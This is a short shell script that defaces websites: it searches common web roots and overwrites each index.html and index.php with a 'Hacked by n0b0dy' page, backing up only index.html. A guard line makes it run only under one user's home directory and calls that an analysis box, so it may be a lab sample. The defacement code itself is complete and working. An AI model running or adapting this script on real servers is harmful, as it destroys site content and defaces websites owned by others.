#!/bin/sh
# SPDX-License-Identifier: MIT
# Replaces the front page of every web root it finds.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
page='<html><body style="background:#000;color:#0f0"><h1>Hacked by n0b0dy</h1></body></html>'
for root in /var/www/html /usr/share/nginx/html /srv/www /var/www; do
	cp "$root/index.html" "$root/index.html.orig" 2>/dev/null
	printf '%s\n' "$page" > "$root/index.html" 2>/dev/null
	printf '%s\n' "$page" > "$root/index.php" 2>/dev/null
done
exit 0
